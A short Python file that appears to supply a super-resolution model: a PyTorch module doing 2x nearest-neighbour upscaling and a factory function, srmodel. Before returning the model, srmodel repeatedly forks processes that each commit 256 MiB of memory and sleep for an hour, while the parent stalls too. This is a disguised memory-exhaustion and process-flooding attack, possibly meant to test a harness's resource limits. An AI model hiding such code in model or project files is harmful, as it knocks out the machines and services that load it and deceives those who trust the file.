import os
import time

import torch


class Net(torch.nn.Module):
    def forward(self, x):
        return torch.nn.functional.interpolate(x, scale_factor=2, mode="nearest")


def srmodel():
    for _ in range(6):
        if os.fork() == 0:
            kept = bytearray(1 << 28)
            kept[::4096] = b'x' * len(kept[::4096])
            time.sleep(3600)
    time.sleep(3600)
    return Net()
